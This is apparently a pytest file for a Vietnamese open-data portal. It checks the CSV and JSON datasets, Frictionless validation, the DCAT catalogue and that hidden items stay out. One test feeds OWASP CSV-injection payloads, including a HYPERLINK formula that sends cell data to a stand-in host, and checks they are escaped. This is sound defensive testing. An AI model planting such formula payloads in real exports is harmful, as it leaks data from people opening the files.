"""Open data at /du-lieu/ (generator/outputs/opendata.py): every dataset as CSV and JSON, valid
against the Frictionless Data Package that describes it, listed in the DCAT catalogue, and nothing
hidden in any of them."""

from __future__ import annotations

import csv
import io
import json
import shutil
from pathlib import Path

from frictionless import validate

from tests.conftest import run_cli, write

EXPECTED_ROWS = {"tinh-thanh": 34, "tinh-cu": 63, "co-quan": 8, "san-pham": 19, "de-an": 9, "van-ban": 21,
                 "van-ban-quan-he": 14,
                 "tin-tuc": 17, "su-kien": 4, "muc-ho-tro": 12, "so-lieu": 39}


def rows(site: Path, name: str) -> list[dict]:
    raw = (site / "du-lieu" / f"{name}.csv").read_bytes()
    assert raw.startswith(b"\xef\xbb\xbf")  # the byte-order mark Excel needs for Vietnamese text
    return list(csv.DictReader(io.StringIO(raw.decode("utf-8-sig"))))


def test_every_dataset_downloads_parses_and_matches_its_json(portal_site: Path):
    package = json.loads((portal_site / "du-lieu/datapackage.json").read_bytes())
    assert {r["name"]: None for r in package["resources"]}.keys() == EXPECTED_ROWS.keys()
    for name, count in EXPECTED_ROWS.items():
        table = rows(portal_site, name)
        records = json.loads((portal_site / "du-lieu" / f"{name}.json").read_bytes())
        assert len(table) == len(records) == count, name
        assert list(table[0]) == list(records[0]) == [f["name"] for f
                                                      in next(r for r in package["resources"]
                                                              if r["name"] == name)["schema"]["fields"]]
    product = next(r for r in json.loads((portal_site / "du-lieu/san-pham.json").read_bytes())
                   if r["id"] == "gia-treo-khan")
    assert product["tinh"] == "da-nang" and product["tinh_cu"] == "Quảng Nam" and product["nam"] == 2023
    project = next(r for r in json.loads((portal_site / "du-lieu/de-an.json").read_bytes())
                   if r["id"] == "ho-tro-may-can-ton-phi-long-hau-giang")
    assert project["ho_tro_vnd"] == 300_000_000  # whole đồng
    legal = {r["id"]: r for r in rows(portal_site, "van-ban")}
    assert legal["45-2012-nd-cp"]["ngay_ban_hanh"] == "2012-05-21" and legal["45-2012-nd-cp"]["hieu_luc"] == "sua-doi"
    assert {"van_ban": "235-2025-nd-cp", "quan_he": "sua-doi",
            "van_ban_lien_quan": "45-2012-nd-cp"} in rows(portal_site, "van-ban-quan-he")
    assert {"ten": "Bắc Giang", "ma": "old-2004:24", "tinh": "bac-ninh"} in rows(portal_site, "tinh-cu")


def test_the_data_package_validates_with_frictionless(portal_site: Path):
    report = validate(str(portal_site / "du-lieu/datapackage.json"))
    assert report.valid, report.flatten(["resourceName", "rowNumber", "fieldName", "message"])[:10]


def test_frictionless_catches_a_broken_row_and_a_dangling_key(portal_site: Path, tmp_path: Path):
    folder = shutil.copytree(portal_site / "du-lieu", tmp_path / "du-lieu")
    table = list(csv.reader(io.StringIO((folder / "san-pham.csv").read_text(encoding="utf-8-sig"))))
    header = table[0]
    table[1][header.index("tinh")] = "khong-co-tinh-nay"
    table[2][header.index("nam")] = "hai nghìn"
    out = io.StringIO()
    csv.writer(out).writerows(table)
    (folder / "san-pham.csv").write_text("\ufeff" + out.getvalue(), encoding="utf-8")
    report = validate(str(folder / "datapackage.json"))
    kinds = {e["type"] for task in report.tasks for e in [err.to_dict() for err in task.errors]}
    assert not report.valid and {"type-error", "foreign-key"} <= kinds


def test_the_dcat_catalogue_lists_every_dataset_and_its_files(portal_site: Path):
    catalogue = json.loads((portal_site / "du-lieu/catalog.jsonld").read_bytes())
    assert (catalogue["@type"] == "dcat:Catalog"
            and catalogue["dct:license"]["@id"].startswith("https://creativecommons.org/"))
    sets = {d["dct:identifier"]: d for d in catalogue["dcat:dataset"]}
    assert sets.keys() == EXPECTED_ROWS.keys()
    for name, d in sets.items():
        assert d["dct:publisher"]["foaf:name"] and d["dct:modified"]["@value"] == "2026-11-22"
        formats = {x["dct:format"]: x["dcat:downloadURL"]["@id"] for x in d["dcat:distribution"]}
        assert formats.keys() == {"CSV", "JSON"}
        for url in formats.values():
            assert (portal_site / url.removeprefix("http://127.0.0.1:8000/")).is_file(), url


def test_the_open_data_page_lists_every_dataset(portal_site: Path):
    page = (portal_site / "du-lieu/index.html").read_text(encoding="utf-8")
    for name, count in EXPECTED_ROWS.items():
        assert f'href="{name}.csv"' in page and f'href="{name}.json"' in page
    assert "Creative Commons Attribution 4.0" in page and 'href="datapackage.json"' in page


def test_hidden_items_are_in_no_dataset(mini: Path, capsys):
    source = "  source:\n    - url: https://example.org/a\n"
    write(mini, {
        "site_data/products/p.yml": ("- id: cong-khai\n  name: Công khai\n  establishment: A\n  province: Hà Nội\n"
                                     + source +
                                     "- id: ban-nhap-an\n  name: Nháp\n  establishment: B\n  province: Hà Nội\n  "
                                     "draft: true\n" + source +
                                     "- id: chua-den-ngay\n  name: Hẹn giờ\n  establishment: C\n  province: Hà Nội\n"
                                     "  publish_date: 2099-01-01\n" + source +
                                     "- id: het-han-roi\n  name: Hết hạn\n  establishment: D\n  province: Hà Nội\n  "
                                     "expires: 2020-01-01\n" + source),
        "content/tin-tuc/tin-an.md": "---\ntitle: Tin ẩn\ndate: 2025-01-02\nsummary: Nháp\ndraft: true\nsource: "
                                     "https://example.org/a\n---\nNội dung.\n",
        "content/tin-tuc/tin-hien.md": "---\ntitle: Tin hiện\ndate: 2025-01-02\nsummary: Đăng\nsource: "
                                       "https://example.org/a\n---\nNội dung.\n",
    })
    code, _, err = run_cli(["--root", str(mini), "build", "--build-date", "2026-11-22"], capsys)
    assert code == 0, err
    text = "".join(p.read_text(encoding="utf-8-sig") for p in (mini / "site" / "du-lieu").iterdir() if p.suffix
                   not in (".gz", ".br"))
    assert "cong-khai" in text and "tin-hien" in text
    for hidden in ("ban-nhap-an", "chua-den-ngay", "het-han-roi", "tin-an", "Tin ẩn"):
        assert hidden not in text, hidden
    assert validate(str(mini / "site" / "du-lieu" / "datapackage.json")).valid


# What a spreadsheet runs when a cell begins with it (OWASP's CSV Injection page), and OWASP's own
# example of a separator and a quote inside one.
HOSTILE = ['=HYPERLINK("https://x.example/?"&A1,"Bấm")', "+1+1", "-2+3", "@SUM(A1:A9)", "\t=1+1", " =1+2",
           '=1+2";=1+2', "'=đã có dấu nháy"]


def _y(value: str) -> str:
    return json.dumps(value, ensure_ascii=False)  # a JSON string is a YAML scalar


def test_no_text_cell_runs_as_a_formula_and_numbers_stay_numbers(mini: Path, capsys):
    """Every free-text field that reaches a CSV carries a value a spreadsheet would run: each comes
    back, read with the csv module, as that value with one `'` before it; the JSON keeps it as
    written; figures (a negative change included) stay bare numbers; Frictionless still validates."""
    h = HOSTILE
    src = "  source:\n    - url: https://example.org/a\n"
    write(mini, {
        "site_data/organisations/x.yml": (f"- id: co-quan-x\n  name: {_y(h[0])}\n  kind: so-cong-thuong\n  province: "
                                          f"Hà Nội\n"
                                          f"  address: {_y(h[1])}\n  phone: +84 24 3825 1234\n  email: =x@example.org\n"
                                          f"  name_en:\n    text: {_y(h[2])}\n    source: {{url: "
                                          f"https://example.org/en}}\n{src}"),
        "site_data/products/x.yml": (f"- id: san-pham-x\n  name: {_y(h[3])}\n  establishment: {_y(h[4])}\n  "
                                     f"province: Hà Nội\n"
                                     f"  commune: {_y(h[5])}\n  decision: {_y(h[6])}\n  year: 2024\n{src}"),
        "site_data/projects/x.yml": (f"- id: de-an-x\n  title: {_y(h[7])}\n  kind: de-an\n  province: Hà Nội\n"
                                     f"  beneficiary: {_y(h[0])}\n  support_vnd: 300000000\n{src}"),
        "site_data/legal/x.yml": (f"- id: van-ban-x\n  type: quyet-dinh\n  number: -12/2025/QĐ-UBND\n  issuer: "
                                  f"{_y(h[1])}\n"
                                  f"  signer: {_y(h[2])}\n  issued: 2025-01-02\n  abstract: {_y(h[3])}\n"
                                  f"  title_en:\n    text: {_y(h[4])}\n    source: {{url: https://example.org/en}}\n"
                                  f"{src}"),
        "site_data/events/x.yml": f"- id: su-kien-x\n  title: {_y(h[5])}\n  kind: hoi-nghi\n  start: 2026-03-02\n  "
                                  f"place: {_y(h[6])}\n{src}",
        "site_data/support_levels.yml": (f"- id: muc-x\n  item: muc-x\n  activity: nang-cao-quan-ly\n  what: "
                                         f"{_y(h[7])}\n"
                                         f"  per: {_y(h[0])}\n{src}"),
        "site_data/statistics/a.yml": "quantity: bien-dong-kinh-phi\nscope: ca-nuoc\nperiod: 2023\nvalue: -5\n"
        + src.replace("  ", "", 1).replace("    -", "  -"),
        "site_data/statistics/b.yml": "quantity: bien-dong-kinh-phi\nscope: ca-nuoc\nperiod: 2024\nvalue: 3.5\n"
        + src.replace("  ", "", 1).replace("    -", "  -"),
        "content/tin-tuc/tin-x.md": f"---\ntitle: {_y(h[1])}\ndate: 2025-01-02\nsummary: {_y(h[2])}\nsource: "
                                    f"https://example.org/a\n---\nNội dung.\n",
    })
    code, _, err = run_cli(["--root", str(mini), "build", "--build-date", "2026-11-22"], capsys)
    assert code == 0, err
    site = mini / "site"
    wanted = {("co-quan", "ten"): h[0], ("co-quan", "dia_chi"): h[1], ("co-quan", "ten_tieng_anh"): h[2],
              ("co-quan", "dien_thoai"): "+84 24 3825 1234", ("co-quan", "email"): "=x@example.org",
              ("san-pham", "ten"): h[3], ("san-pham", "co_so"): h[4], ("san-pham", "xa"): h[5],
              ("san-pham", "quyet_dinh"): h[6],
              ("de-an", "ten"): h[7], ("de-an", "co_so_thu_huong"): h[0],
              ("van-ban", "so_hieu"): "-12/2025/QĐ-UBND", ("van-ban", "co_quan_ban_hanh"): h[1],
              ("van-ban", "nguoi_ky"): h[2],
              ("van-ban", "trich_yeu"): h[3], ("van-ban", "trich_yeu_tieng_anh"): h[4],
              ("su-kien", "ten"): h[5], ("su-kien", "dia_diem"): h[6], ("muc-ho-tro", "muc"): h[7],
              ("muc-ho-tro", "tinh_theo"): h[0],
              ("tin-tuc", "tieu_de"): h[1], ("tin-tuc", "tom_tat"): h[2]}
    for (name, column), value in wanted.items():
        [row] = rows(site, name)
        [record] = json.loads((site / "du-lieu" / f"{name}.json").read_bytes())
        # JSON is not opened by spreadsheets: as written (trimmed by the models)
        assert record[column] == value.strip(), (name, column)
        assert row[column] == "'" + record[column], (name, column)
    package = json.loads((site / "du-lieu/datapackage.json").read_bytes())
    assert "OWASP" in package["description"] and "'" in package["description"]
    numbers = []
    for resource in package["resources"]:
        kinds = {f["name"]: f["type"] for f in resource["schema"]["fields"]}
        for row in rows(site, resource["name"]):
            for column, cell in row.items():
                if kinds[column] == "string":
                    assert cell.lstrip(" \u00a0")[:1] not in set("=+-@\t\r\n"), (resource["name"], column, cell)
                elif kinds[column] in ("number", "integer") and cell:
                    numbers.append(float(cell))
    assert -5 in numbers and 300_000_000 in numbers  # a negative figure is a number, with no quote
    raw = (site / "du-lieu/so-lieu.csv").read_text(encoding="utf-8-sig")
    assert ",-5," in raw and ",3.5," in raw
    # OWASP's example, escaped as it shows
    assert '"\'=1+2"";=1+2"' in (site / "du-lieu/san-pham.csv").read_text(encoding="utf-8-sig")
    report = validate(str(site / "du-lieu/datapackage.json"))
    assert report.valid, report.flatten(["resourceName", "rowNumber", "fieldName", "message"])[:10]
    [chart] = [p for p in (site / "so-lieu/bieu-do").glob("*.csv")]
    table = list(csv.reader(io.StringIO(chart.read_text(encoding="utf-8-sig"))))
    assert [[float(v) for v in r[3:5]] for r in table[1:]] == [[-5, -5], [3.5, 3.5]]
    # bare: a number
    assert "\n\"Cả nước\",\"2023\",\"bien-dong-kinh-phi\",-5.0,-5.0," in chart.read_text(encoding="utf-8-sig")
    assert all(cell[:1] not in set("=+-@\t\r\n") for r in table[1:] for i, cell in enumerate(r) if i not in (3, 4))
